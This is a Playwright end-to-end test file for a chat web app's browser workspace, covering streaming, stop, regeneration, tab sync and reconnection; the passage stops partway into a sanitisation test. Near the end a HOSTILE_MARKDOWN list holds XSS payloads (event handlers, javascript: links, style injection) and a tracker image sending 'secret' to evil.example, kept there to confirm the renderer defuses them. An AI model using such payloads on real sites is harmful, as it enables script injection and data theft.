"""The chat workspace in a real headless Chromium, against a real server.

One browser and two servers per module (the resume tests' with longer
replies); every test uses its own user (so its own sidebar) and its own
browser context. The resume tests keep the page away from the server (its
socket cut, its reconnection held by a ``TcpProxy``) while a protocol client
watches what the server does meanwhile. Waits are Playwright's
(``expect`` with deadlines), never sleeps. Without a
browser every test is skipped, with the reason printed (``-ra``).
"""

from __future__ import annotations

import json
import re
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jwt
import pytest
import requests

from actorchat import ModelConfig
from actorchat.testing import Behavior, FakeOpenAIServer
from tests.server_support import WAIT, Client, dev_token
from tests.web_support import (
    TcpProxy,
    axe_violations,
    browser_missing,
    launch_browser,
    needs_browser,
    web_server,
)

MISSING = browser_missing()
pytestmark = needs_browser()

if MISSING is None:
    from playwright.sync_api import Page, expect

    expect.set_options(timeout=WAIT * 1000)

#: Long enough replies to see them stream, stop them and cut them mid-way.
TOKENS = 40
DELAY_MS = 30.0
SECRET = "web-test-secret-0123456789-0123456789"


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    # A second model, "broken", whose backend answers every request with a 500.
    with FakeOpenAIServer(Behavior(status=500, error_message="backend down")) as fake:
        broken = ModelConfig("broken", provider="openai", base_url=fake.base_url, max_attempts=1)
        with web_server(
            tmp_path_factory.mktemp("web"),
            mock_tokens=TOKENS,
            mock_delay_ms=DELAY_MS,
            models={"broken": broken},
        ) as srv:
            yield srv


#: The resume tests' replies: long enough (80 tokens, 2.4 s) to be away from
#: and come back to while they still stream.
SLOW_TOKENS = 80


@pytest.fixture(scope="module")
def slow_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    with web_server(
        tmp_path_factory.mktemp("web-resume"), mock_tokens=SLOW_TOKENS, mock_delay_ms=DELAY_MS
    ) as srv:
        yield srv


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with launch_browser() as b:
        yield b


class PageErrors:
    """Console errors and uncaught exceptions of the pages of one test."""

    def __init__(self) -> None:
        self.errors: list[str] = []
        self.allowed: list[str] = []

    def watch(self, page: Page) -> Page:
        page.on("console", lambda m: m.type == "error" and self.errors.append(m.text))
        page.on("pageerror", lambda e: self.errors.append(f"uncaught: {e}"))
        return page

    def unexpected(self) -> list[str]:
        return [e for e in self.errors if not any(a in e for a in self.allowed)]


@pytest.fixture
def errors() -> PageErrors:
    return PageErrors()


@pytest.fixture
def context(browser: Any, errors: PageErrors) -> Iterator[Any]:
    ctx = browser.new_context(viewport={"width": 1280, "height": 800})
    ctx.on("page", errors.watch)
    yield ctx
    ctx.close()
    assert errors.unexpected() == [], "the page logged errors"


@pytest.fixture
def page(context: Any) -> Page:
    p: Page = context.new_page()
    return p


def login(page: Page, base: str, user: str) -> None:
    page.goto(f"{base}/")
    page.get_by_label("User name").fill(user)
    page.get_by_role("button", name="Log in").click()
    expect(page.locator("#conn-status")).to_have_text("Connected")


def composer(page: Page) -> Any:
    return page.get_by_role("textbox", name="Message")


def send(page: Page, text: str) -> None:
    composer(page).fill(text)
    composer(page).press("Enter")


def new_chat(page: Page) -> str:
    """Click New chat; returns the new conversation's id once it is open."""
    before = page.url
    page.get_by_role("button", name="New chat").click()
    expect(page).not_to_have_url(before)
    expect(page).to_have_url(re.compile(r"#/c/[0-9a-f]+$"))
    return page.url.rsplit("/", 1)[1]


def replies(page: Page) -> Any:
    return page.locator("article[data-role=assistant]")


def stored(server: Any, user: str, cid: str, **params: Any) -> list[dict[str, Any]]:
    """The conversation's messages as the server stored them (REST)."""
    r = requests.get(
        f"{server.url}/api/v1/conversations/{cid}/messages",
        params=params,
        headers={"Authorization": f"Bearer {dev_token(server, user)}"},
        timeout=WAIT,
    )
    r.raise_for_status()
    msgs: list[dict[str, Any]] = r.json()["messages"]
    return msgs


def last_reply(server: Any, user: str, cid: str) -> dict[str, Any]:
    return [m for m in stored(server, user, cid) if m["message_type"] == "assistant"][-1]


def reply_text(page: Page, message_id: str) -> str:
    """The reply's text as shown (Markdown rendered back to its words)."""
    text: str = page.locator(f'article[data-id="{message_id}"] .msg-body').inner_text()
    return text


def words(text: str) -> str:
    return " ".join(text.split())


def shows_as_stored(page: Page, saved: dict[str, Any]) -> None:
    """The reply on the page is the stored one: the same text, rendered the same.

    The page holds exactly the stored Markdown, and shows what the page's own
    renderer makes of the stored text (the embedded model writes lists and
    code blocks, so the shown words differ from the raw ones).
    """
    got = page.evaluate(
        """async ({id, content}) => {
        const md = await import('/js/markdown.js');
        const box = document.createElement('div');
        md.renderInto(box, content);
        return {
          held: window.__actorchat.workspace.transcript.byId.get(id)?.content ?? null,
          shown: document.querySelector(`article[data-id="${id}"] .msg-body`)?.textContent ?? null,
          rendered: box.textContent,
        };
      }""",
        {"id": saved["id"], "content": saved["content"]},
    )
    assert got["held"] == saved["content"]
    assert got["shown"] is not None and words(got["shown"]) == words(got["rendered"])


def wait_streaming_chunks(page: Page, n: int) -> None:
    """Until the reply in progress holds at least ``n`` (< 10) chunks."""
    expect(page.locator("article[data-state=streaming]")).to_have_attribute(
        "data-chunks", re.compile(rf"^([{n}-9]|\d\d+)$")
    )


# -- the tests -----------------------------------------------------------------------------


def test_login_create_send_and_stream_to_completion(server: Any, page: Page) -> None:
    login(page, server.url, "ann")
    expect(page.locator("#user-name")).to_have_text("Signed in as ann")
    cid = new_chat(page)
    item = page.locator(f'#conv-list li[data-id="{cid}"]')
    expect(item).to_contain_text("New conversation")
    expect(page.locator("#chat-title")).to_have_text("New conversation")

    # Record every length the reply's text goes through while it streams.
    page.evaluate(
        """() => {
        window.__lengths = [];
        new MutationObserver(() => {
          const body = document.querySelector('article[data-role=assistant] .msg-body');
          if (body) window.__lengths.push(body.textContent.length);
        }).observe(document.getElementById('transcript'),
                   {subtree: true, childList: true, characterData: true});
      }"""
    )
    send(page, "Hello there, how do actors scale?")
    expect(page.locator("article[data-role=user]")).to_have_text(
        re.compile("Hello there, how do actors scale")
    )
    reply = replies(page)
    # The typing indicator shows while the model writes.
    expect(reply).to_have_attribute("data-state", "streaming")
    expect(page.locator("#activity")).to_contain_text("is writing")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    expect(reply).to_have_attribute("data-state", "done")
    expect(page.get_by_role("button", name="Stop")).to_be_hidden()
    expect(page.locator("#activity")).not_to_contain_text("is writing")

    # Token by token: the text grew through many lengths, not in one piece.
    lengths = sorted(set(page.evaluate("window.__lengths")))
    assert len(lengths) >= TOKENS // 4, lengths

    saved = last_reply(server, "ann", cid)
    assert reply.get_attribute("data-id") == saved["id"]
    shows_as_stored(page, saved)
    usage = saved["usage"]
    expect(reply.locator(".usage")).to_have_text(
        f"{usage['prompt_tokens']} prompt · {usage['completion_tokens']} completion · "
        f"{usage['total_tokens']} tokens"
    )
    # The first message titles the conversation.
    expect(item.locator(".conv-title")).to_have_text("Hello there, how do actors scale?")
    expect(item.locator(".conv-meta")).to_contain_text("2 messages")


def test_stop_a_generation(server: Any, page: Page) -> None:
    login(page, server.url, "bob")
    cid = new_chat(page)
    send(page, "Tell me a long story")
    wait_streaming_chunks(page, 3)
    page.get_by_role("button", name="Stop").click()
    reply = replies(page)
    expect(reply).to_have_attribute("data-state", "cancelled")
    expect(reply.locator(".msg-status")).to_have_text("Stopped")
    expect(page.get_by_role("button", name="Stop")).to_be_hidden()
    saved = last_reply(server, "bob", cid)
    assert saved["finish_reason"] == "cancelled"
    assert saved["usage"]["completion_tokens"] < TOKENS
    shows_as_stored(page, saved)
    # The conversation goes on after a stop.
    send(page, "And now a short one")
    expect(replies(page)).to_have_count(2)
    expect(replies(page).nth(1)).to_have_attribute("data-state", "done")


def test_regenerate_replaces_the_reply(server: Any, page: Page) -> None:
    login(page, server.url, "cyd")
    cid = new_chat(page)
    send(page, "Say something")
    expect(replies(page)).to_have_attribute("data-state", "done")
    first_id = replies(page).get_attribute("data-id")
    page.get_by_role("button", name="Regenerate").click()
    expect(replies(page)).not_to_have_attribute("data-id", first_id or "")
    expect(replies(page)).to_have_count(1)
    expect(replies(page)).to_have_attribute("data-state", "done")
    new_id = replies(page).get_attribute("data-id")
    saved = last_reply(server, "cyd", cid)
    assert saved["id"] == new_id
    shows_as_stored(page, saved)
    # The old reply is kept on the server as an earlier version.
    versions = stored(server, "cyd", cid, versions="true")
    assert any(m["id"] == first_id and m.get("superseded") for m in versions)


def test_model_picker_and_an_error_banner(server: Any, page: Page) -> None:
    login(page, server.url, "hal")
    picker = page.get_by_label("Model")
    # Before a conversation is open it picks the model of the next one.
    expect(picker.locator("option")).to_have_text(["Server default", "broken", "mock"])
    picker.select_option("broken")
    cid = new_chat(page)
    expect(picker.locator("option")).to_have_text(["broken", "mock"])
    expect(picker).to_have_value("broken")
    token = dev_token(server, "hal")
    conv_url = f"{server.url}/api/v1/conversations/{cid}"
    auth = {"Authorization": f"Bearer {token}"}
    assert requests.get(conv_url, headers=auth, timeout=WAIT).json()["model"] == "broken"
    send(page, "Are you there?")
    reply = replies(page)
    expect(reply).to_have_attribute("data-state", "error")
    expect(reply.locator(".msg-status")).to_have_text("Failed")
    # The banner says what happened and what to do, with the action at hand.
    banner = page.get_by_role("alert").filter(has_text="The model backend failed to answer")
    expect(banner).to_contain_text("Press Regenerate to try again, or pick another model")
    # Switch the conversation to the working model, then regenerate from the banner.
    picker.select_option("mock")
    expect(page.locator("#activity")).to_contain_text("now come from mock")
    assert requests.get(conv_url, headers=auth, timeout=WAIT).json()["model"] == "mock"
    banner.get_by_role("button", name="Regenerate").click()
    expect(banner).to_have_count(0)
    expect(replies(page)).to_have_count(1)
    expect(replies(page)).to_have_attribute("data-state", "done")
    expect(replies(page).locator(".msg-author")).to_have_text("mock")
    assert last_reply(server, "hal", cid)["finish_reason"] == "stop"


def test_rename_search_and_delete(server: Any, page: Page) -> None:
    login(page, server.url, "dee")
    first = new_chat(page)
    # Rename from the conversation's header, with the keyboard.
    page.get_by_role("button", name="Rename", exact=True).click()
    title_box = page.get_by_role("textbox", name="Conversation title")
    title_box.fill("Actor model notes")
    title_box.press("Enter")
    expect(page.locator("#chat-title")).to_have_text("Actor model notes")
    expect(page.locator(f'#conv-list li[data-id="{first}"] .conv-title')).to_have_text(
        "Actor model notes"
    )
    second = new_chat(page)
    # Rename from the sidebar.
    page.locator(f'#conv-list li[data-id="{second}"]').hover()
    page.get_by_role("button", name="Rename “New conversation”").click()
    inline = page.get_by_role("textbox", name="New title")
    inline.fill("Shopping list")
    inline.press("Enter")
    expect(page.locator(f'#conv-list li[data-id="{second}"] .conv-title')).to_have_text(
        "Shopping list"
    )
    # Both titles are stored.
    token = dev_token(server, "dee")
    titles = {
        c["id"]: c["title"]
        for c in requests.get(
            f"{server.url}/api/v1/conversations",
            headers={"Authorization": f"Bearer {token}"},
            timeout=WAIT,
        ).json()["conversations"]
    }
    assert titles == {first: "Actor model notes", second: "Shopping list"}

    # Search by title.
    search = page.get_by_label("Search conversations by title")
    search.fill("actor")
    expect(page.locator("#conv-list li")).to_have_count(1)
    expect(page.locator("#conv-list li .conv-title")).to_have_text("Actor model notes")
    search.fill("zebra")
    expect(page.locator("#conv-list li")).to_have_count(0)
    expect(page.locator("#conv-empty")).to_contain_text("No conversation title contains")
    search.fill("")
    expect(page.locator("#conv-list li")).to_have_count(2)

    # Delete the open one from the header, after confirming.
    page.locator(f'#conv-list li[data-id="{first}"] .conv-link').click()
    expect(page.locator("#chat-title")).to_have_text("Actor model notes")
    page.get_by_role("button", name="Delete", exact=True).click()
    dialog = page.get_by_role("dialog", name="Delete this conversation?")
    expect(dialog).to_be_visible()
    dialog.get_by_role("button", name="Delete").click()
    expect(page.locator(f'#conv-list li[data-id="{first}"]')).to_have_count(0)
    expect(page.locator("#chat-title")).to_have_text("New conversation")
    # Cancel keeps it; the sidebar's delete button asks too.
    page.locator(f'#conv-list li[data-id="{second}"]').hover()
    page.get_by_role("button", name="Delete “Shopping list”").click()
    dialog.get_by_role("button", name="Cancel").click()
    expect(page.locator(f'#conv-list li[data-id="{second}"]')).to_have_count(1)
    page.locator(f'#conv-list li[data-id="{second}"]').hover()
    page.get_by_role("button", name="Delete “Shopping list”").click()
    dialog.get_by_role("button", name="Delete").click()
    expect(page.locator("#conv-list li")).to_have_count(0)
    r = requests.get(
        f"{server.url}/api/v1/conversations/{first}",
        headers={"Authorization": f"Bearer {token}"},
        timeout=WAIT,
    )
    assert r.status_code == 404


def test_two_tabs_stay_in_sync(server: Any, context: Any) -> None:
    a = context.new_page()
    login(a, server.url, "eve")
    b = context.new_page()
    b.goto(f"{server.url}/")  # the same browser: already logged in
    expect(b.locator("#conn-status")).to_have_text("Connected")
    cid = new_chat(a)
    item_b = b.locator(f'#conv-list li[data-id="{cid}"]')
    expect(item_b).to_be_visible()  # created in tab A, listed in tab B
    item_b.locator(".conv-link").click()
    expect(b).to_have_url(re.compile(f"#/c/{cid}$"))
    # B is typing: A sees it.
    composer(b).type("hm")
    expect(a.locator("#activity")).to_contain_text("You are typing in another tab")
    composer(b).fill("")

    send(a, "Hello from tab A")
    expect(b.locator("article[data-role=user]")).to_contain_text("Hello from tab A")
    expect(b.locator("article[data-role=assistant]")).to_have_attribute("data-state", "streaming")
    for p in (a, b):
        expect(p.locator("article[data-role=assistant]")).to_have_attribute("data-state", "done")
    mid = a.locator("article[data-role=assistant]").get_attribute("data-id") or ""
    assert b.locator("article[data-role=assistant]").get_attribute("data-id") == mid
    assert reply_text(a, mid) == reply_text(b, mid)
    # Stop from tab B stops tab A's stream too.
    send(a, "Another one from A")
    expect(b.locator("article[data-role=assistant]").nth(1)).to_have_attribute(
        "data-state", "streaming"
    )
    wait_streaming_chunks(b, 2)
    b.get_by_role("button", name="Stop").click()
    for p in (a, b):
        expect(p.locator("article[data-role=assistant]").nth(1)).to_have_attribute(
            "data-state", "cancelled"
        )
    # Renamed in B: A's header and sidebar follow.
    b.get_by_role("button", name="Rename", exact=True).click()
    b.get_by_role("textbox", name="Conversation title").fill("Synced title")
    b.get_by_role("textbox", name="Conversation title").press("Enter")
    expect(a.locator("#chat-title")).to_have_text("Synced title")
    expect(a.locator(f'#conv-list li[data-id="{cid}"] .conv-title')).to_have_text("Synced title")
    # Deleted in A: B says so and forgets it.
    a.get_by_role("button", name="Delete", exact=True).click()
    a.get_by_role("dialog").get_by_role("button", name="Delete").click()
    expect(b.locator(".banner")).to_contain_text("This conversation was deleted")
    expect(b.locator(f'#conv-list li[data-id="{cid}"]')).to_have_count(0)
    expect(b.locator("#chat-title")).to_have_text("New conversation")


def test_the_empty_list_hint_sits_where_the_list_begins(server: Any, page: Page) -> None:
    login(page, server.url, "jay")
    hint = page.locator("#conv-empty")
    expect(hint).to_have_text("No conversations yet: start one with New chat.")
    head = page.locator(".sidebar-head").bounding_box()
    box = hint.bounding_box()
    assert head is not None and box is not None
    # Right under the search box, not at the foot of the sidebar.
    assert 0 <= box["y"] - (head["y"] + head["height"]) < 20, (head, box)
    new_chat(page)
    expect(hint).to_be_hidden()
    expect(page.locator("#conv-list li")).to_have_count(1)


def test_swarm_conversations_are_hidden_from_the_sidebar(
    server: Any, context: Any, page: Page
) -> None:
    login(page, server.url, "ivy")
    own = new_chat(page)
    # The dashboard (same browser, same session) starts a swarm bigger than a page.
    dash = context.new_page()
    dash.goto(f"{server.url}/dashboard.html")
    expect(dash.locator("#conn-status")).to_have_text("Live")
    dash.get_by_role("button", name="Start 1,000").click()
    expect(dash.locator("#start-status")).to_contain_text("Started 1,000 conversations")
    dash.close()
    # They are marked by their title.
    r = requests.get(
        f"{server.url}/api/v1/conversations",
        params={"limit": 5},
        headers={"Authorization": f"Bearer {dev_token(server, 'ivy')}"},
        timeout=WAIT,
    )
    assert all(c["title"].startswith("swarm · started ") for c in r.json()["conversations"])

    items = page.locator("#conv-list li")
    toggle = page.get_by_role("checkbox", name=re.compile("Show swarm conversations"))
    # Created while the workspace was open: hidden as they arrive.
    expect(page.locator("#swarm-filter")).to_have_text("Show swarm conversations (1,000)")
    expect(toggle).not_to_be_checked()
    expect(items).to_have_count(1)
    expect(page.locator(f'#conv-list li[data-id="{own}"]')).to_be_visible()

    # A fresh page: the newest conversations are all the swarm's, and the
    # list pages on past them to find the user's own.
    fresh = context.new_page()
    fresh.goto(f"{server.url}/")
    expect(fresh.locator("#conn-status")).to_have_text("Connected")
    items = fresh.locator("#conv-list li")
    toggle = fresh.get_by_role("checkbox", name=re.compile("Show swarm conversations"))
    expect(fresh.locator("#swarm-filter")).to_have_text("Show swarm conversations (1,000)")
    expect(items).to_have_count(1)
    expect(fresh.locator(f'#conv-list li[data-id="{own}"]')).to_be_visible()
    expect(fresh.locator("#load-more")).to_be_hidden()

    # Shown on request (the sidebar lists at most 300 and says so)...
    toggle.check()
    expect(items).to_have_count(300)
    expect(fresh.locator("#conv-empty")).to_have_text(
        "Showing 300 of 1,001: search to narrow the list."
    )
    # ... and remembered by the browser (shown, they come a page at a time).
    fresh.reload()
    expect(fresh.locator("#conn-status")).to_have_text("Connected")
    expect(toggle).to_be_checked()
    expect(items).to_have_count(100)
    fresh.get_by_role("button", name="Load older conversations").click()
    expect(items).to_have_count(200)
    toggle.uncheck()
    expect(items).to_have_count(1)
    fresh.reload()
    expect(fresh.locator("#conn-status")).to_have_text("Connected")
    expect(toggle).not_to_be_checked()
    expect(items).to_have_count(1)
    # A swarm conversation opened from the dashboard (a cell's link) is listed while open.
    swarm_id = r.json()["conversations"][0]["id"]
    fresh.goto(f"{server.url}/#/c/{swarm_id}")
    expect(fresh.locator(f'#conv-list li[data-id="{swarm_id}"]')).to_be_visible()
    expect(items).to_have_count(2)


def user_connections(server: Any, user: str) -> list[Any]:
    """The server's WebSocket connections of ``user``."""
    return [c for c in list(server.ctx.connections) if c.user_id == user]


class Frames:
    """Every frame the page's WebSockets send and receive, socket by socket."""

    def __init__(self, page: Page) -> None:
        self.sockets: list[dict[str, list[dict[str, Any]]]] = []
        page.on("websocket", self._opened)

    def _opened(self, ws: Any) -> None:
        record: dict[str, list[dict[str, Any]]] = {"sent": [], "received": []}
        self.sockets.append(record)
        ws.on("framesent", lambda payload: record["sent"].append(json.loads(payload)))
        ws.on("framereceived", lambda payload: record["received"].append(json.loads(payload)))

    def after_reconnect(self, direction: str, kind: str) -> list[dict[str, Any]]:
        """The frames of ``kind`` sent or received on the sockets after the first."""
        return [f for s in self.sockets[1:] for f in s[direction] if f.get("type") == kind]


def content_of(f: dict[str, Any], message_id: str) -> list[int]:
    """The chunk indices a ``stream_content`` frame of ``message_id`` carries."""
    d = f["data"]
    if f["type"] != "stream_content" or d["message_id"] != message_id:
        return []
    return list(range(d.get("first_index", d["index"]), d["index"] + 1))


def held(page: Page, message_id: str) -> dict[str, Any]:
    """What the page holds of a reply: its text and how many chunks."""
    got: dict[str, Any] = page.evaluate(
        """(id) => {
        const m = window.__actorchat.workspace.transcript.byId.get(id);
        return {content: m.content, chunks: m.nextIndex};
      }""",
        message_id,
    )
    return got


class Away:
    """A page mid-reply, then away from the server (its socket cut, its reconnection held).

    The page logs in through a ``TcpProxy``; a protocol client (``watcher``)
    joins the conversation to see what the server does while the page is
    away; ``come_back()`` lets the page's reconnection through.
    """

    def __init__(self, server: Any, page: Page, user: str) -> None:
        self.server, self.page, self.user = server, page, user
        self.proxy = TcpProxy(server.port).start()
        self.frames = Frames(page)
        login(page, self.proxy.url, user)
        self.page_connections = user_connections(server, user)
        assert len(self.page_connections) == 1
        self.cid = new_chat(page)
        self.watcher = Client(server, user=user)
        self.watcher.send("join_conversation", {"conversation_id": self.cid})
        self.watcher.expect("conversation_joined")

    def start_reply(self) -> str:
        """Send a message; wait until the page holds a few chunks of the reply; its id."""
        send(self.page, "Please keep talking while the connection fails")
        wait_streaming_chunks(self.page, 3)
        reply_id: str | None = replies(self.page).get_attribute("data-id")
        assert reply_id
        return reply_id

    def go(self, how: str) -> None:
        """Cut the page's socket (on the wire, or closed by the server) and hold its return."""
        self.proxy.hold()
        if how == "network":
            assert self.proxy.drop() > 0
        else:
            for conn in self.page_connections:
                conn.close(1012, "Service restart")
        expect(self.page.locator("#conn-status")).not_to_have_text("Connected")

    def watch(self, kind: str, message_id: str, pred: Any = None) -> dict[str, Any]:
        """Until the server sends ``kind`` for ``message_id`` (matching ``pred``)."""
        frame: dict[str, Any] = self.watcher.expect(
            kind,
            lambda f: f["data"]["message_id"] == message_id and (pred is None or pred(f)),
        )
        return frame

    def come_back(self) -> None:
        self.proxy.release()
        expect(self.page.locator("#activity")).to_contain_text("Reconnected")
        expect(self.page.locator("#conn-status")).to_have_text("Connected")

    def rejoin(self) -> dict[str, Any]:
        """The one join the page sent after it came back (there is no second one)."""
        joins = self.frames.after_reconnect("sent", "join_conversation")
        assert len(joins) == 1, joins
        data: dict[str, Any] = joins[0]["data"]
        assert data["conversation_id"] == self.cid
        return data

    def close(self) -> None:
        self.watcher.close()
        self.proxy.stop()


@pytest.fixture
def away(slow_server: Any, page: Page, errors: PageErrors) -> Iterator[Any]:
    errors.allowed.append("WebSocket")  # Chromium logs the cut connection
    made: list[Away] = []

    def make(user: str) -> Away:
        made.append(Away(slow_server, page, user))
        return made[-1]

    yield make
    for a in made:
        a.close()


@pytest.mark.parametrize("how", ["network", "server"])
def test_reconnect_mid_reply_resumes_the_named_reply_intact(
    slow_server: Any, page: Page, away: Any, how: str
) -> None:
    """The socket goes mid-reply (cut on the wire, or closed by the server) and
    comes back while the reply still streams: the join names the reply and
    the chunks the page holds, and gets exactly the rest."""
    user = f"fay-{how}"
    a = away(user)
    reply_id = a.start_reply()
    a.go(how)
    had = held(page, reply_id)
    # The server goes on meanwhile: the page misses some chunks.
    a.watch("stream_content", reply_id, lambda f: f["data"]["index"] >= had["chunks"] + 2)
    a.come_back()
    reply = replies(page)
    expect(reply).to_have_attribute("data-state", "done")
    saved = last_reply(slow_server, user, a.cid)
    assert reply.get_attribute("data-id") == saved["id"] == reply_id
    # Exactly the stored text: nothing lost, nothing duplicated.
    shows_as_stored(page, saved)
    expect(replies(page)).to_have_count(1)
    # The join named the reply and the last chunk the page held ...
    assert a.rejoin() == {
        "conversation_id": a.cid,
        "history_limit": 200,
        "message_id": reply_id,
        "after_index": had["chunks"] - 1,
    }
    # ... and the server went on from the next one, the reply still streaming.
    got = [
        i
        for f in a.frames.after_reconnect("received", "stream_content")
        for i in content_of(f, reply_id)
    ]
    assert got == list(range(had["chunks"], SLOW_TOKENS)), got


def test_reconnect_after_the_reply_ended_while_away(
    slow_server: Any, page: Page, away: Any
) -> None:
    user = "fay-ended"
    a = away(user)
    reply_id = a.start_reply()
    a.go("network")
    done = a.watch("stream_complete", reply_id)
    a.come_back()
    reply = replies(page)
    expect(reply).to_have_attribute("data-state", "done")
    expect(reply.locator(".msg-status")).to_have_text("")
    saved = last_reply(slow_server, user, a.cid)
    assert saved["id"] == reply_id
    shows_as_stored(page, saved)
    usage = done["data"]["usage"]
    expect(reply.locator(".usage")).to_have_text(
        f"{usage['prompt_tokens']} prompt · {usage['completion_tokens']} completion · "
        f"{usage['total_tokens']} tokens"
    )
    rejoin = a.rejoin()
    assert rejoin["message_id"] == reply_id
    # The join said how the reply ended, and replayed nothing.
    ends = a.frames.after_reconnect("received", "stream_complete")
    assert [e["data"]["message_id"] for e in ends] == [reply_id]
    assert ends[0]["data"]["finish_reason"] == "stop" and "superseded" not in ends[0]["data"]
    assert a.frames.after_reconnect("received", "stream_content") == []
    # Counted once: the user message and the reply.
    item = page.locator(f'#conv-list li[data-id="{a.cid}"] .conv-meta')
    expect(item).to_contain_text("2 messages")


@pytest.mark.parametrize("answer", ["streaming", "ended"])
def test_a_crash_while_away_shows_the_reply_interrupted_then_the_new_answer_whole(
    slow_server: Any, page: Page, away: Any, answer: str
) -> None:
    """The conversation crashes while the page is away; it restarts and answers
    the same message again. Back, the page shows the reply it was following as
    interrupted, with the text it had, and the new answer whole after it
    (still streaming when the page comes back, or already ended)."""
    user = f"fay-crash-{answer}"
    a = away(user)
    reply_id = a.start_reply()
    a.go("network")
    had = held(page, reply_id)
    r = requests.post(
        f"{slow_server.url}/api/v1/admin/kill",
        json={"conversation_ids": [a.cid]},
        headers={"Authorization": f"Bearer {dev_token(slow_server, user)}"},
        timeout=WAIT,
    )
    assert r.json()["killed"] == [a.cid]
    assert a.watch("stream_complete", reply_id)["data"]["finish_reason"] == "error"
    start = a.watcher.expect("stream_start")
    new_id = start["data"]["message_id"]
    assert new_id != reply_id
    if answer == "streaming":
        a.watch("stream_content", new_id, lambda f: f["data"]["index"] >= 2)
    else:
        a.watch("stream_complete", new_id)
    a.come_back()

    old = page.locator(f'article[data-id="{reply_id}"]')
    new = page.locator(f'article[data-id="{new_id}"]')
    expect(new).to_have_attribute("data-state", "done")
    expect(old).to_have_attribute("data-state", "interrupted")
    # Said in words, not by colour alone.
    expect(old.locator(".msg-status")).to_have_text("Interrupted — answered again below")
    expect(old).to_have_attribute("aria-label", "Reply from mock (interrupted)")
    # The user message, the interrupted reply, then the new answer.
    order = page.locator("#transcript article").evaluate_all("(as) => as.map((a) => a.dataset.id)")
    assert order[1:] == [reply_id, new_id] and len(order) == 3
    # The interrupted reply keeps the text the page had: a beginning of what
    # the server kept of it (as an earlier version).
    assert held(page, reply_id)["content"] == had["content"]
    kept = [m for m in stored(slow_server, user, a.cid, versions="true") if m["id"] == reply_id]
    assert kept and kept[0]["superseded"] and kept[0]["content"].startswith(had["content"])
    # The new answer whole, nothing lost or duplicated.
    saved = last_reply(slow_server, user, a.cid)
    assert saved["id"] == new_id
    shows_as_stored(page, saved)
    # One join, naming the reply; the server said it was superseded, then
    # (still streaming) sent the new answer from index 0.
    rejoin = a.rejoin()
    assert rejoin["message_id"] == reply_id and rejoin["after_index"] == had["chunks"] - 1
    received = [f for s in a.frames.sockets[1:] for f in s["received"]]
    ends = [f["data"] for f in received if f["type"] == "stream_complete"]
    assert ends[0]["message_id"] == reply_id
    assert ends[0]["finish_reason"] == "error" and ends[0]["superseded"] is True
    got = [i for f in received for i in content_of(f, new_id)]
    if answer == "streaming":
        assert got == list(range(SLOW_TOKENS)), got
    else:
        assert got == []
    # Regenerate sits on the answer, not on the reply it replaced.
    expect(old.get_by_role("button", name="Regenerate")).to_be_hidden()
    expect(new.get_by_role("button", name="Regenerate")).to_be_visible()
    assert axe_violations(page) == []


def test_missing_chunks_are_asked_for_by_name(server: Any, page: Page) -> None:
    """A safety net: the server sends no gap, but if chunks went missing the
    page joins again naming the reply and the last chunk it holds."""
    frames = Frames(page)
    login(page, server.url, "fay-gap")
    cid = new_chat(page)
    send(page, "Please keep talking")
    wait_streaming_chunks(page, 3)
    # A chunk from further on arrives (as if some were lost on the way).
    injected = page.evaluate(
        """() => {
        const w = window.__actorchat.workspace;
        const m = w.transcript.streaming();
        const n = m.nextIndex;
        window.__actorchat.socket.dispatchEvent(new CustomEvent('frame', {detail: {
          type: 'stream_content',
          data: {message_id: m.id, conversation_id: w.currentId, content: ' LOST',
                 index: n + 2, is_complete: false}}}));
        return {id: m.id, n};
      }"""
    )
    reply = replies(page)
    expect(reply).to_have_attribute("data-state", "done")
    saved = last_reply(server, "fay-gap", cid)
    assert saved["id"] == injected["id"]
    shows_as_stored(page, saved)
    joins = [
        f["data"] for s in frames.sockets for f in s["sent"] if f["type"] == "join_conversation"
    ]
    assert joins[1:] == [
        {
            "conversation_id": cid,
            "history_limit": 200,
            "message_id": injected["id"],
            "after_index": injected["n"] - 1,
        }
    ], joins


def test_token_login_when_dev_auth_is_off(tmp_path: Path, browser: Any, errors: PageErrors) -> None:
    errors.allowed.append("404")  # the dev endpoint is off: that is how the page learns it
    with web_server(tmp_path, jwt_secret=SECRET) as srv:
        ctx = browser.new_context()
        try:
            page = errors.watch(ctx.new_page())
            page.goto(f"{srv.url}/")
            page.get_by_label("User name").fill("gus")
            page.get_by_role("button", name="Log in").click()
            expect(page.locator("#login-error")).to_contain_text("paste a token")
            token = jwt.encode(
                {"sub": "gus", "exp": int(time.time()) + 3600}, SECRET, algorithm="HS256"
            )
            page.get_by_label("Token (JWT)").fill(token)
            page.get_by_role("button", name="Use token").click()
            expect(page.locator("#conn-status")).to_have_text("Connected")
            expect(page.locator("#user-name")).to_have_text("Signed in as gus")
            new_chat(page)
        finally:
            ctx.close()
        assert errors.unexpected() == []


#: Model output that tries to run script, style the page or load something. In
#: Chromium 156 merely parsing an event-handler attribute, a ``style`` attribute
#: or a ``<style>`` element (even in an inert document) logs a CSP violation, so
#: each must be defused before the browser parses the HTML, not only sanitised.
HOSTILE_MARKDOWN = [
    '<img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script>',
    "[click](javascript:window.__pwned=3) [ok](https://example.org)",
    "![tracker](https://evil.example/leak?q=secret)",
    '<svg onload="window.__pwned=4"><animate onbegin="window.__pwned=5"/></svg>',
    '<details open ontoggle="window.__pwned=6"><summary>more</summary>inside</details>',
    '<a href="javascript:window.__pwned=7">raw link</a>',
    "<IMG SRC=x ONERROR=window.__pwned=8> <img/onerror=window.__pwned=9>",
    '<b title="x"onmouseover=window.__pwned=10>adjacent</b>',
    '<span style="color:red">styled</span> <style>body{display:none}</style>',
    '<iframe src="javascript:window.__pwned=11"></iframe>',
    '<form action="javascript:window.__pwned=12"><button>go</button></form>',
    "",
    # An HTML block whose handler starts a line of its own.
    '<div title="x"',
    'onmouseover="window.__pwned=13" tabindex="0">hover me</div>',
]


def test_markdown_is_rendered_and_sanitised(server: Any, page: Page, errors: PageErrors) -> None:
    page.goto(f"{server.url}/")
    page.evaluate(
        """() => {
        window.__violations = [];
        document.addEventListener('securitypolicyviolation',
          (e) => window.__violations.push(e.violatedDirective));
      }"""
    )
    markdown = "\n".join(
        [
            "# Title",
            "",
